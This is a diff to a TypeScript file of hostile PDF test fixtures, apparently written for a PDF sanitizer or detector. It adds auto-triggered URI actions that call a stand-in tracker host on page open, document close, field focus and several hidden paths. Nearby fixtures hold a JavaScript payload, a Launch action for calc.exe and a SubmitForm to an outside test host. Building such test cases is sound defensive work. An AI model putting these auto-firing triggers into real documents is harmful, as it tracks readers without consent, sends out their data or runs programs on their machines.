@@ -46,6 +46,9 @@ const objectStream = (number: number, object: string): string =>
 
 const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
 
+/** Opens an address; on a click that is an ordinary link. */
+const LINK = '<< /S /URI /URI (https://tracker.test/opened) >>';
+
 const PADDING = Buffer.from(
   '28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a',
   'hex',
@@ -115,6 +118,18 @@ export const hostilePdfs = {
   script_in_object_stream: () => writePdf({ objects: ['null', objectStream(4, SCRIPT)] }),
   script_unreachable: () => writePdf({ objects: ['[[[[ << /A << /S /JavaScript >> >> ]]]]'] }),
   script_under_later_revision: scriptUnderLaterRevision,
+  link_at_page_open: () => writePdf({ page: `/AA << /O ${LINK} >>` }),
+  link_at_document_close: () => writePdf({ catalog: '/AA 4 0 R', objects: [`<< /WC ${LINK} >>`] }),
+  link_of_a_field: () =>
+    writePdf({ page: `/Annots [<< /Subtype /Widget /AA << /Fo ${LINK} >> >>]` }),
+  link_at_open: () => writePdf({ catalog: `/OpenAction ${LINK}` }),
+  link_at_open_elsewhere: () => writePdf({ catalog: '/OpenAction 4 0 R', objects: [LINK] }),
+  link_after_go_to: () =>
+    writePdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${LINK} >>` }),
+  link_in_object_stream: () =>
+    writePdf({ objects: ['null', objectStream(4, `<< /Type /Page /AA << /O ${LINK} >> >>`)] }),
+  link_under_later_revision: () =>
+    `${writePdf({ objects: [`<< /AA << /O ${LINK} >> >>`] })}4 0 obj\n<< >>\nendobj\n%%EOF\n`,
   launch_action: () =>
     writePdf({ page: '/Annots [<< /Subtype /Link /A << /S /Launch /F (calc.exe) >> >>]' }),
   submit_form: () => writePdf({ catalog: '/OpenAction << /S /SubmitForm /F (http://x.test) >>' }),
